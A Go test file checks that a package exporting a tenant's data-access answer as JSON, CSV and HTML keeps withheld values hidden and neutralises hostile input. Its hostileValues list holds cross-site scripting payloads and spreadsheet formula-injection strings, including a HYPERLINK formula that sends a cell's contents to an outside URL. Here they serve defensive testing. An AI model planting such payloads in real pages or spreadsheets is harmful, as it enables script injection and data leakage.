package pack_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"tenet/internal/law"
	"tenet/internal/pack"
)

// value is one value of one item, as each file tells it.
type value struct {
	Item         int
	Label, Value string
}

// document is what doc.go says of the JSON, as far as tests look.
type document struct {
	Format, Reference, Person string
	Index                     []struct {
		First, Last int
		Title       string
	}
	Items []struct {
		Number        int
		Title, Whose  string
		Fields, Texts []struct {
			Name, Label, Value string
			Withheld           bool
		}
	}
	Withheld []struct {
		Item      int
		What      string
		Exemption struct{ ID, Cite string }
		Times     int
	}
	NotSearched []struct{ What, Why string } `json:"not_searched"`
}

func fromJSON(t testing.TB, b []byte) (document, []value) {
	t.Helper()
	var d document
	if err := json.Unmarshal(b, &d); err != nil {
		t.Fatal(err)
	}
	var out []value
	for _, i := range d.Items {
		for _, f := range slices.Concat(i.Fields, i.Texts) {
			if f.Withheld {
				f.Value = "[withheld]"
			}
			out = append(out, value{i.Number, f.Label, f.Value})
		}
	}
	return d, out
}

func rowsOf(t testing.TB, b []byte) [][]string {
	t.Helper()
	b, ok := bytes.CutPrefix(b, []byte("\uFEFF"))
	if !ok {
		t.Fatal("the CSV has no byte order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows[1:]
}

func fromCSV(t testing.TB, b []byte) []value {
	t.Helper()
	var out []value
	for _, row := range rowsOf(t, b) {
		n, err := strconv.Atoi(row[0])
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, value{n, bare(row[8]), bare(row[9])})
	}
	return out
}

// formula is what a spreadsheet may take for the beginning of a formula.
const formula = "=+-@\t\r\n＝＋－＠"

// bare takes off the apostrophe that keeps a cell from being a formula.
func bare(cell string) string {
	rest, quoted := strings.CutPrefix(cell, "'")
	if body := []rune(strings.TrimLeft(rest, "'")); quoted && len(body) > 0 && strings.ContainsRune(formula, body[0]) {
		return rest
	}
	return cell
}

func TestFilesSayTheSame(t *testing.T) {
	f := files(t, answer(t))
	d, want := fromJSON(t, f[pack.JSONName])
	if len(want) != 9+24*5+3+3+1 {
		t.Errorf("the JSON has %d values", len(want))
	}
	if diff := cmp.Diff(want, fromCSV(t, f[pack.CSVName])); diff != "" {
		t.Errorf("CSV differs from JSON: %s", diff)
	}
	if diff := cmp.Diff(want, fromPage(t, f[pack.PageName], want)); diff != "" {
		t.Errorf("page differs from JSON: %s", diff)
	}
	for i, x := range d.Items {
		if x.Number != i+1 {
			t.Errorf("item %d has number %d", i+1, x.Number)
		}
	}
	if d.Format != "tenet-pack/1" || d.Reference != "AR-2026-0042" || len(d.NotSearched) != 2 {
		t.Errorf("the JSON says %+v", d)
	}
}

func TestScheduleGivesNothingAway(t *testing.T) {
	f := files(t, answer(t))
	d, _ := fromJSON(t, f[pack.JSONName])
	title := func(n int) string {
		if n == 0 {
			return ""
		}
		return d.Items[n-1].Title
	}
	var got [][3]string
	for _, w := range d.Withheld {
		got = append(got, [3]string{title(w.Item), w.What, strconv.Itoa(w.Times) + " " + w.Exemption.ID})
	}
	want := [][3]string{
		{"Your details", "a field of your details", "1 not-yours"},
		{"Letters", "a name in a letter", "2 third-party"},
		{"Case notes", "a name in a case note", "1 third-party"},
		{"", "a whole note", "1 privilege"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	for name, b := range f {
		if bytes.Contains(b, []byte("Secretname")) {
			t.Errorf("%s holds a withheld value", name)
		}
		if bytes.Contains(b, []byte("rent_entry/9")) || bytes.Contains(b, []byte("0512.txt")) {
			t.Errorf("%s shows the ID of an item", name)
		}
	}
}

func TestSameInputSameBytes(t *testing.T) {
	want := whole(t, answer(t))
	for range 5 {
		in := answer(t)
		rand.Shuffle(len(in.Items), func(i, j int) { in.Items[i], in.Items[j] = in.Items[j], in.Items[i] })
		rand.Shuffle(len(in.Withheld), func(i, j int) { in.Withheld[i], in.Withheld[j] = in.Withheld[j], in.Withheld[i] })
		rand.Shuffle(len(in.NotSearched), func(i, j int) { in.NotSearched[i], in.NotSearched[j] = in.NotSearched[j], in.NotSearched[i] })
		for name, b := range whole(t, in) {
			if !bytes.Equal(b, want[name]) {
				t.Fatalf("%s is not the same bytes", name)
			}
		}
	}
}

func TestFilesRefuse(t *testing.T) {
	for want, spoil := range map[string]func(*pack.Input){
		"no reference":   func(in *pack.Input) { in.Reference = " " },
		"whose it is":    func(in *pack.Input) { in.Landlord, in.Explanation.Landlord = "", "" },
		"when":           func(in *pack.Input) { in.Searched = law.Date{} },
		"has no ID":      func(in *pack.Input) { in.Items[3].ID = "" },
		"one ID":         func(in *pack.Input) { in.Items[3].ID = in.Items[4].ID },
		"not one of":     func(in *pack.Input) { in.Withheld[0].Exemption = "because" },
		"neutral words":  func(in *pack.Input) { in.Withheld[0].What = "" },
		"not in the ans": func(in *pack.Input) { in.Withheld[0].Item = "Mrs Secretname" },
	} {
		in := answer(t)
		spoil(&in)
		_, err := pack.Files(in)
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "Secretname") || strings.Contains(err.Error(), "rent_entry/") {
			t.Errorf("error %v, want one with %q and nobody's data", err, want)
		}
	}
}

func TestAnAnswerWithNothing(t *testing.T) {
	f := files(t, pack.Input{Reference: "A1", Landlord: "Larkfield Homes", Searched: date(t, "2026-10-03")})
	d, values := fromJSON(t, f[pack.JSONName])
	if len(d.Items) != 0 || len(values) != 0 || !bytes.Contains(f[pack.JSONName], []byte(`"items": []`)) {
		t.Error("the JSON has items")
	}
	structure(t, f[pack.PageName])
}

// hostileValues are what systems other people typed into may hold.
var hostileValues = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style></title></dd>`, `{{.Items}}`, `&amp;&lt;`, `javascript:alert(1)`,
	"nul\x00within", "bidi \u202eesrever\u202c end", "inv\xffalid", "new\r\nline\rand\u2028more", "zero\u200bwidth", "\uFEFFmark", "\x1b[31mred",
	`=HYPERLINK("http://example.org?"&A1)`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-12.50", "-", "＝1+1", "'=1", "'-1", "''", "plain", " =1", "a,b;\"c\"",
	"2026-02-30", "2026-02-28", "2026-06-01T11:00:00Z", "2026-06-01T11:00:00", "0001-01-01", "\u0645\u0631\u062d\u0628\u0627",
	"  two spaces  and more ", "line one\n\n\nline four\n", strings.Repeat("long ", 200_000), strings.Repeat("x", 1<<20),
}

func TestHostileValues(t *testing.T) {
	in := answer(t)
	in.Items, in.Withheld = nil, nil
	for i, v := range hostileValues {
		in.Items = append(in.Items,
			pack.Item{ID: "f" + strconv.Itoa(i), Source: "s", Table: "t", Fields: []pack.Field{{Name: "a", Value: v}}},
			pack.Item{ID: "t" + strconv.Itoa(i), Source: "s", Table: "u", Texts: []pack.Field{{Name: "a", Value: v}}})
	}
	for i, v := range hostileValues[:34] { // And where words are expected, the short ones.
		in.Items = append(in.Items, pack.Item{ID: "w" + v, Source: v, Table: v, Title: v, Category: v, Whose: v, How: v,
			Fields: []pack.Field{{Name: v, Value: v, Note: v}, {Name: strconv.Itoa(i), Label: v, Value: v}}})
		in.NotSearched = append(in.NotSearched, pack.Gap{What: v, Why: v})
		in.Working = append(in.Working, v)
	}
	in.Person, in.Reference = hostileValues[1], hostileValues[0]
	f := files(t, in)
	_, want := fromJSON(t, f[pack.JSONName])
	if diff := cmp.Diff(want, fromCSV(t, f[pack.CSVName])); diff != "" {
		t.Errorf("CSV differs from JSON: %.2000s", diff)
	}
	if diff := cmp.Diff(want, fromPage(t, f[pack.PageName], want)); diff != "" {
		t.Errorf("page differs from JSON: %.2000s", diff)
	}
	structure(t, f[pack.PageName])
	for _, row := range rowsOf(t, f[pack.CSVName]) {
		for _, cell := range row {
			dangerous := cell != "" && strings.ContainsRune(formula, []rune(cell)[0])
			if _, err := strconv.ParseFloat(cell, 64); dangerous && err != nil {
				t.Errorf("a cell begins as a formula: %.40q", cell)
			}
		}
	}
	for name, b := range f {
		if bytes.ContainsAny(b, "\x00\x1b\u202e\u200b") || !bytes.Equal(b, bytes.ToValidUTF8(b, nil)) {
			t.Errorf("%s holds a character that nobody sees", name)
		}
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"plain\ttext\n":         "plain\ttext\n",
		"a\r\nb\rc\u2029d\fe":   "a\nb\nc\nd\ne",
		"a\x00b\x7fc\u0085d":    "a\uFFFDb\uFFFDc\nd",
		"a\xff\xfeb":            "a\uFFFDb",
		"\u202ea\u2066b\u2069":  "ab",
		"\uFEFFa\u200bb\u2060c": "abc",
		"\u0645\u200c\u0645":    "\u0645\u200c\u0645", // A joiner that Persian needs.
		"café":                  "café",
	} {
		if got := pack.Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
		if again := pack.Clean(want); again != want {
			t.Errorf("Clean(%q) = %q: cleaning twice differs", want, again)
		}
	}
}

func FuzzFiles(f *testing.F) {
	for _, v := range hostileValues[:34] {
		f.Add(v, v, v)
	}
	f.Fuzz(func(t *testing.T, title, name, text string) {
		in := pack.Input{Reference: "A1", Landlord: "Larkfield Homes", Searched: date(t, "2026-10-03"), Person: title}
		for _, id := range []string{"1", "2"} {
			in.Items = append(in.Items, pack.Item{ID: id, Source: name, Table: name, Title: title, Category: name, Whose: text, How: title,
				Fields: []pack.Field{{Name: name, Value: text}, {Name: "b", Value: title, Note: name}, {Name: "c", Value: "trap9f3e", Withheld: true}}})
		}
		in.Items = append(in.Items, pack.Item{ID: "3", Texts: []pack.Field{{Name: name, Value: text}}})
		list, err := pack.Files(in, pack.Print, pack.Spreadsheet)
		if err != nil {
			t.Fatal(err)
		}
		out := make(map[string][]byte)
		for _, x := range list {
			out[x.Name] = x.Bytes
			if !strings.Contains(title+name+text, "trap9f3e") && bytes.Contains(x.Bytes, []byte("trap9f3e")) {
				t.Errorf("%s holds a withheld value", x.Name)
			}
		}
		_, want := fromJSON(t, out[pack.JSONName])
		if diff := cmp.Diff(want, fromCSV(t, out[pack.CSVName])); diff != "" {
			t.Error(diff)
		}
		if diff := cmp.Diff(want, fromPage(t, out[pack.PageName], want)); diff != "" {
			t.Error(diff)
		}
		structure(t, out[pack.PageName])
	})
}
